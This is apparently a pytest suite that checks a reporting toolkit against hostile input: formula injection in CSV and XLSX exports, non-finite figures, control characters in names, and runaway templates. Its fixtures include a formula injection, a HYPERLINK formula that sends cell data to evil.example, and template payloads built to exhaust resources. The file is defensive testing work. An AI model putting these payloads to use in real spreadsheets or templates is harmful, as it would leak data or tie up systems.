"""What the toolkit writes is safe to open, figures are what a reader means, manifests keep
their history: the medium and low findings of the hostile-input probe (issue 25)."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from reporting.cells import restored_cell, safe_cell
from reporting.dataset.load import load_dataset
from reporting.errors import DataError
from reporting.pipeline.batch_manifest import NAME, Entry, manifest_text, read_manifest, write_manifest

HERE = Path(__file__).parent
MINIMAL = HERE / "fixtures" / "minimal.yaml"
MAKE_REPORT = str(Path(sys.executable).with_name("make-report"))
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1",
           "'quoted", "=", "-"]


# -- formula injection -----------------------------------------------------------------


def it_writes_no_manifest_cell_a_spreadsheet_would_run(tmp_path):
    entries = [Entry(f"r{index}", "-12.5", "invalid", name_zh=name, name_en=name, message=name,
                     figures=(("users", "-5"),)) for index, name in enumerate(HOSTILE)]
    write_manifest(tmp_path / NAME, entries)
    with open(tmp_path / NAME, encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-12.5", row
        assert row[1] == "-12.5"  # a negative number stays a number
    # and the toolkit reads back exactly what it wrote (resume, verify)
    assert read_manifest(tmp_path / NAME) == {entry.recipient: entry for entry in entries}


@pytest.mark.parametrize("value", HOSTILE + ["\r=1", "-12.5", "+3", "1e-3", "plain", ""])
def it_neutralises_a_cell_reversibly(value):
    written = safe_cell(value)
    assert restored_cell(written) == value
    if value in ("-12.5", "+3", "1e-3"):
        assert written == value


def it_exports_facts_no_spreadsheet_would_run(tmp_path):
    from reporting.dataset.facts_sheet import read_facts, write_facts

    text = MINIMAL.read_text(encoding="utf-8").replace("label: {zh: 用户, en: users}",
                                                       'label: {zh: 用户, en: "=1+2 users"}')
    dataset = tmp_path / "d.yaml"
    dataset.write_text(text, encoding="utf-8")
    facts = list(load_dataset(dataset).dataset.facts)
    write_facts(facts, tmp_path / "facts.csv", kind="csv")
    write_facts(facts, tmp_path / "facts.xlsx", kind="xlsx")
    assert "'=1+2 users" in (tmp_path / "facts.csv").read_text(encoding="utf-8-sig")
    import openpyxl

    sheet = openpyxl.load_workbook(tmp_path / "facts.xlsx")["Facts"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "=1+2 users"]
    assert cells and all(cell.data_type == "s" for cell in cells)
    for name in ("facts.csv", "facts.xlsx"):
        read = read_facts(tmp_path / name)
        assert not read.problems
        assert read.facts[0]["label"]["en"] == "=1+2 users"


# -- figures ---------------------------------------------------------------------------


@pytest.mark.parametrize("value", ['"NaN"', '"Infinity"', '"-inf"', '"1e400"', "true", "false"])
def it_refuses_a_figure_that_is_no_finite_number(tmp_path, value):
    dataset = tmp_path / "d.yaml"
    dataset.write_text(MINIMAL.read_text(encoding="utf-8").replace("value: 2500000", f"value: {value}"),
                       encoding="utf-8")
    line = next(number for number, text in enumerate(dataset.read_text(encoding="utf-8").splitlines(), 1)
                if text.strip() == f"value: {value}")
    with pytest.raises(DataError) as raised:
        load_dataset(dataset)
    [problem] = [p for p in raised.value.problems if p.field == "facts[0].value"]
    assert problem.line == line
    assert ("finite number" in problem.message) or ("not " + value in problem.message)
    result = subprocess.run([MAKE_REPORT, "check", "--data", str(dataset)], capture_output=True, text=True)
    assert result.returncode == 1 and "Traceback" not in result.stdout + result.stderr
    assert f"d.yaml:{line}: facts[0].value:" in result.stdout + result.stderr


# -- recipients -------------------------------------------------------------------------


def it_refuses_control_characters_in_recipient_names(tmp_path):
    from reporting.dataset.recipients import read_recipients

    table = tmp_path / "r.csv"
    table.write_text("recipient,name_en,name_zh,users\na,Brand\x1bA,甲,1000\nb,Brand B,乙\x00,2000\nc,Brand C,丙,3000\n",
                     encoding="utf-8")
    recipients = read_recipients(table, load_dataset(MINIMAL))
    assert [row.id for row in recipients.rows] == ["c"]
    said = [str(problem) for problem in recipients.problems]
    assert any("r.csv:2: name_en:" in line and "control character" in line for line in said), said
    assert any("r.csv:3: name_zh:" in line and "control character" in line for line in said), said


def batch(table: Path, out: Path) -> subprocess.CompletedProcess:
    return subprocess.run([MAKE_REPORT, "batch", "--recipients", str(table), "--data", str(MINIMAL), "--format",
                           "html", "--out", str(out), "--jobs", "1"], capture_output=True, text=True,
                          env={**os.environ, "OPENBLAS_NUM_THREADS": "1"})


@pytest.mark.slow
def it_keeps_the_records_of_an_earlier_batch_into_the_same_folder(tmp_path):
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    first.write_text("recipient,users\na,1000\nb,2000\n", encoding="utf-8")
    second.write_text("recipient,users\nc,3000\n", encoding="utf-8")
    out = tmp_path / "out"
    assert batch(first, out).returncode == 0
    assert batch(second, out).returncode == 0
    listed = read_manifest(out / NAME)
    assert set(listed) == {"a", "b", "c"}
    on_disk = {path.name for path in out.glob("*.html")}
    assert on_disk == {name for entry in listed.values() for name in entry.files}


@pytest.mark.slow
def it_does_not_build_a_repeated_recipient_again_on_resume(tmp_path):
    table = tmp_path / "r.csv"
    table.write_text("recipient,users\na,1000\na,2000\n", encoding="utf-8")
    out = tmp_path / "out"
    first = batch(table, out)
    assert "1 built" in first.stderr, first.stderr
    again = batch(table, out)
    assert "0 built, 1 current (skipped)" in again.stderr, again.stderr
    assert [row for row in csv.reader(io.StringIO(manifest_text(read_manifest(out / NAME).values())))][1][2] == "ok"


# -- templates and the command line ----------------------------------------------------


def template_project(tmp_path: Path, expression: str) -> Path:
    folder = tmp_path / "project"
    (folder / "templates" / "brief").mkdir(parents=True)
    (folder / "report.toml").write_text(f'[project]\ndataset = "{MINIMAL}"\ntemplates = "templates"\n',
                                        encoding="utf-8")
    (folder / "templates" / "brief" / "brief.html").write_text(
        '{% extends "brief/base.html" %}\n{% block cover_note %}\n<p>{{ ' + expression + ' }}</p>\n{% endblock %}\n',
        encoding="utf-8")
    return folder


@pytest.mark.parametrize("expression, said", [("10 ** 5000", "would have about 5,000 digits"),
                                               ('"ab" * 1500000000', "3,000,000,000 characters or items")])
def it_refuses_a_template_expression_too_large_to_hold(tmp_path, expression, said):
    folder = template_project(tmp_path, expression)
    capped = [sys.executable, str(HERE / "hostile_child.py"), "1000", "120", "exec", MAKE_REPORT]
    built = subprocess.run([*capped, "--format", "html", "--out", str(tmp_path / "out")], cwd=folder,
                           capture_output=True, text=True)
    assert built.returncode == 1, built.stderr[-2000:]
    assert "Traceback" not in built.stderr and said in built.stderr
    assert "templates/brief/brief.html:3:" in built.stderr
    checked = subprocess.run([*capped, "check"], cwd=folder, capture_output=True, text=True)
    assert checked.returncode == 1, checked.stdout[-2000:]
    assert "templates/brief/brief.html:3: not allowed in a template:" in checked.stdout and said in checked.stdout


LOOPS = {
    "nested loops": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "a macro calling itself twice": "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}"
                                    "{{ f(60) }}",
    "a loop over a long text": '{% for c in "x" * 999999 %}{% for d in "x" * 999999 %}{% endfor %}{% endfor %}',
}


@pytest.mark.parametrize("body", LOOPS.values(), ids=LOOPS.keys())
def it_ends_a_template_that_would_run_for_hours(tmp_path, body):
    """Ten billion loop steps, or 2**60 calls: the build ends with one line naming the
    template's file and line and the limit to raise (under the test's caps, which such
    a template would otherwise meet), and writes nothing; the budget is the project's
    (five steps in report.toml refuse even an ordinary brief)."""
    folder = tmp_path / "project"
    (folder / "templates" / "brief").mkdir(parents=True)
    (folder / "templates" / "brief" / "brief.html").write_text(
        '{% extends "brief/base.html" %}\n{% block cover_note %}\n' + body + '\n{% endblock %}\n', encoding="utf-8")
    config = f'[project]\ndataset = "{MINIMAL}"\ntemplates = "templates"\n'
    (folder / "report.toml").write_text(config, encoding="utf-8")
    capped = [sys.executable, str(HERE / "hostile_child.py"), "1000", "300", "exec", MAKE_REPORT]
    built = subprocess.run([*capped, "--format", "html", "--out", str(tmp_path / "out")], cwd=folder,
                           capture_output=True, text=True)
    assert built.returncode == 1, built.stderr[-2000:]
    assert "Traceback" not in built.stderr, built.stderr[-2000:]
    assert re.search(r"templates/brief/brief.html:3: the templates took more loop steps and calls than the "
                     r"render's budget .*raise \[limits\] template_steps in report.toml", built.stderr), built.stderr
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
    plain = template_project(tmp_path / "plain", '"an ordinary template"')
    (plain / "report.toml").write_text((plain / "report.toml").read_text(encoding="utf-8")
                                       + "[limits]\ntemplate_steps = 5\n", encoding="utf-8")
    small = subprocess.run([*capped, "--format", "html", "--out", str(tmp_path / "out")], cwd=plain,
                           capture_output=True, text=True)
    assert small.returncode == 1 and "template_steps" in small.stderr, small.stderr[-2000:]


def it_names_a_bad_scheduler_address_in_one_line(tmp_path):
    table = tmp_path / "r.csv"
    table.write_text("recipient,users\na,1000\n", encoding="utf-8")
    result = subprocess.run([MAKE_REPORT, "batch", "--recipients", str(table), "--data", str(MINIMAL), "--format",
                             "html", "--out", str(tmp_path / "out"), "--scheduler", "garbage"],
                            capture_output=True, text=True)
    assert result.returncode == 2, result.stderr[-2000:]
    assert "Traceback" not in result.stderr
    assert "no Dask scheduler answers at garbage" in result.stderr
